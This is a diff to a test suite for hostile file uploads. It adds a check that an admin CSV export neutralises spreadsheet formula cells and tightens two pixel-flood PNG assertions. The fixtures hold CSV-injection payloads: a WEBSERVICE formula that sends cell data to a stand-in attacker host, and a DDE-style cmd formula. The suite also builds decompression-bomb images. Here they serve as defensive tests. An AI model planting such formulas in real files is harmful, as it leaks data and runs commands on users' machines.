@@ -2,6 +2,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { eq } from 'drizzle-orm';
 import { zipSync } from 'fflate';
+import Papa from 'papaparse';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { brands } from '../db/schema';
@@ -367,14 +368,14 @@ describe('4. Hostile files', () => {
       '50,000 × 50,000 pixel-flood PNG (valid CRCs)',
       '422, not decoded',
       () => uploadImage('image', pixelFloodPng(50_000, 50_000), 'flood.png', 'image/png'),
-      refused(422, /too many pixels|not an image/),
+      refused(422, 'The image has too many pixels'),
     );
     await thrown(
       task,
       '10,000 × 10,000 PNG header',
       '422',
       () => uploadImage('logo', pixelFloodPng(10_000, 10_000), 'big.png', 'image/png'),
-      refused(422, /too many pixels|not an image/),
+      refused(422, 'The image has too many pixels'),
     );
     const sixMegabytes = Buffer.concat([jpeg, Buffer.alloc(6 * 1024 * 1024)]);
     await thrown(
@@ -551,6 +552,41 @@ describe('4. Hostile files', () => {
       industry: "'-2+3",
       keywords: ["'@cmd", "'=x", 'safe'],
     });
+  });
+
+  it('prefixes formula cells in the CSV export, whoever stored them', async ({ task }) => {
+    await insertBrand(t.database.db, {
+      name: 'Stored Formula',
+      slug: 'stored-formula',
+      tagline: '=WEBSERVICE("http://evil.example/?"&A1)',
+      description: "@SUM(1+1)*cmd|' /C calc'!A0",
+      keywords: ['+x', 'plain'],
+    });
+    const result = await measure(async () => {
+      const res = await admin('/api/admin/export/brands.csv', { method: 'GET' });
+      return { res, text: await res.text() };
+    });
+    const { res, text } = result.value as { res: Response; text: string };
+    const rows = Papa.parse<Record<string, string>>(text, { header: true, delimiter: ',' }).data;
+    const row = rows.find((r) => r.slug === 'stored-formula');
+    record(task, {
+      thrown: 'GET /api/admin/export/brands.csv with formula cells stored',
+      expected: "200 text/csv, each formula cell prefixed with '",
+      got: `${res.status} ${res.headers.get('content-type')}; ${JSON.stringify([row?.tagline, row?.description, row?.keywords])}`,
+      ms: result.ms,
+    });
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-disposition')).toContain('brands.csv');
+    expect(row?.tagline).toBe(`'=WEBSERVICE("http://evil.example/?"&A1)`);
+    expect(row?.description?.startsWith("'@SUM")).toBe(true);
+    expect(row?.keywords).toBe("'+x, plain");
+    // Every cell of every row: nothing a spreadsheet would run.
+    const risky = rows.flatMap((r) => Object.values(r)).filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    expect(risky).toEqual([]);
+    // And the export can be imported again: the import reads its columns.
+    expect(Object.keys(rows[0] ?? {})).toEqual(
+      expect.arrayContaining(['name', 'url', 'tagline', 'keywords']),
+    );
   });
 
   it('wrote nothing outside its bucket, and no link at all', ({ task }) => {
